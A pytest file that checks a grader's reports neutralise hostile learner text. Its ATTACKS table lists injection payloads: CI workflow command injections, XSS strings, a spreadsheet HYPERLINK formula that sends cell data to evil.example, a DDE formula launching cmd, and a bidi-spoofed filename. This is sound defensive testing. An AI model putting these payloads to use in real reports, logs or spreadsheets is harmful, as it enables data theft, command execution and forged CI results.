"""Learner's text in every form of report: shown, never obeyed."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import unicodedata
from collections.abc import Callable
from xml.etree import ElementTree as ET

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from grader.report import Report
from grader.report import text as neutral
from grader.report.console import Terminal
from grader.report.forms import FORMS
from grader.report.terminal import TerminalReport
from grader.scorecard import CheckResult, ExerciseResult, ScoreCard, from_json, to_json

ATTACKS = {
    "terminal escapes": "\x1b[2J\x1b]0;title\x07\x9b31m\x7f",
    "a workflow command": "::error file=a,line=1::boo\n  ::stop-commands::x\n::set-output name=result::9",
    "a command of the old form": "##[error]boo ##[set-env name=A;]b ##vso[task.complete result=Succeeded]",
    "three signs": "###[group]x",
    "html": "</p><script>alert(1)</script><img src=x onerror=alert(1)>",
    "an attribute": "\" onmouseover='alert(1)' x=\"",
    "markdown": "![x](http://a/b) **bold** `code` | cell | [link](javascript:x) <b>h</b> ~~no~~ $x$",
    "a fence": "```\n~~~\n````\n# heading\n",
    "a mention": "@teacher closes #1, see https://evil.example and www.evil.example",
    "what XML can't hold": "\x00\x01\x0b\ufffe\uffff\ud800]]>",
    "a formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "a command in a formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "other formulas": "+1+1\t-1\t＝1",
    "a turn of direction": "\u202egpj.exe\u2066\u200f",
    "invisible letters": "a\u200bb\xadc\u3164\U000e0041\ufeff",
    "a name with line breaks": "alice\n::error::x\r\nbob\u2028carol\x85dan",
}
attack = pytest.mark.parametrize("text", ATTACKS.values(), ids=list(ATTACKS))
NEUTRAL = (
    neutral.printable,
    neutral.one_line,
    neutral.in_html,
    neutral.in_markdown,
    neutral.in_fence,
    neutral.in_cell,
)


def obeyed(log: str) -> list[str]:
    """Lines of a log that a CI server would take for commands."""
    return [
        line for line in log.splitlines() if line.lstrip().startswith("::") or re.search(r"##\w*\[", line)
    ]


def card(text: str) -> ScoreCard:
    """Return a card that has the text wherever a learner's text can occur."""
    check = CheckResult.of(
        id="process_pair.output", title=text, status="failed", max_points=2,
        message=text, hint=text, help=text, timeline=(text,),
    )  # fmt: skip
    exercise = ExerciseResult.of(name="process_pair", title=text, file=text, checks=[check], output=text)
    return ScoreCard.of(submission=text, seed=1, seconds=1, watching=text, exercises=[exercise], notes=[text])


REPORTS: dict[str, Callable[[], Report]] = {
    "terminal": TerminalReport,
    "colour": lambda: TerminalReport(Terminal(width=40, colour=True)),
    **FORMS,
}


@attack
@pytest.mark.parametrize("form", REPORTS)
def test_no_line_of_any_report_is_a_command_to_a_ci_server(form: str, text: str) -> None:
    page = REPORTS[form]().render(card(text)).decode()
    assert not obeyed(re.sub(r"\x1b\[[\d;]*m", "", page))


@attack
@pytest.mark.parametrize("form", REPORTS)
def test_no_report_has_a_control_character(form: str, text: str) -> None:
    page = re.sub(
        r"\x1b\[[\d;]*m" if form == "colour" else "(?!)", "", REPORTS[form]().render(card(text)).decode()
    )
    odd = {
        f"U+{ord(sign):04X}" for sign in page if unicodedata.category(sign) in ("Cc", "Cf", "Cs", "Zl", "Zp")
    }
    assert odd <= {"U+000A"}


@attack
def test_a_card_for_another_process_has_the_text_to_the_letter(text: str) -> None:
    made = card(text)
    assert from_json(to_json(made)) == made


@attack
def test_the_junit_report_is_xml_and_keeps_the_text_as_shown(text: str) -> None:
    root = ET.fromstring(FORMS["junit"]().render(card(text)))
    assert root.get("name") == neutral.printable(text)


@attack
@pytest.mark.parametrize("neutralise", NEUTRAL, ids=lambda each: each.__name__)
def test_each_form_takes_the_power_of_commands(neutralise, text: str) -> None:
    assert not obeyed(neutralise(text))


@given(st.text(alphabet=":#[ \nav\xa0\u2003\t"))
@example("##[\n::")
@example("###vso[")
def test_commands_are_broken_however_they_are_combine(text: str) -> None:
    for neutralise in (*NEUTRAL, neutral.unlike_commands, neutral.in_xml):
        assert not obeyed(neutralise(text))


@given(st.text(alphabet=":#[ab \n"))
def test_references_and_escapes_leave_the_text_as_it_was(text: str) -> None:
    assert html.unescape(neutral.in_xml(text)) == text
    written = neutral.in_json(json.dumps([text, "\\" + text]).encode())
    assert json.loads(written) == [text, "\\" + text]


@given(st.text())
@example("a`b``c")
def test_a_fence_ends_where_it_should(text: str) -> None:
    first, *body, last = neutral.in_fence(text).split("\n")
    assert first == last + "text"
    assert not any(line.strip().startswith(last) for line in body)


@given(st.text())
def test_markdown_has_no_sign_that_is_not_escaped(text: str) -> None:
    line = neutral.in_markdown(text)
    assert "\n" not in line
    assert not re.search(r"(?<!\\)[<>*_`|\[\]#!~@$&]", line.replace("\\\\", ""))


def test_in_markdown_nobody_is_mentioned_and_nothing_is_linked() -> None:
    line = neutral.in_markdown(ATTACKS["a mention"]).replace("\\", "")
    assert not re.search(r"@\w|#\d|https?://|www\.", line)


@given(st.text())
@example("=1+1")
@example(" \t=1+1")
def test_a_cell_is_one_line_and_no_formula(text: str) -> None:
    cell = neutral.in_cell(text)
    assert cell[:1] not in set("=+-@|%＝＋－＠\t\r")
    file = io.StringIO()
    csv.writer(file).writerow([cell, "next"])
    assert list(csv.reader(io.StringIO(file.getvalue()))) == [[cell, "next"]]


def test_a_command_of_our_own_holds_the_text_and_ends_with_it() -> None:
    assert neutral.in_command("100%\n::error::x") == "100%25%0A::error::x"
    assert neutral.in_command("a,b: c", attribute=True) == "a%2Cb%3A c"
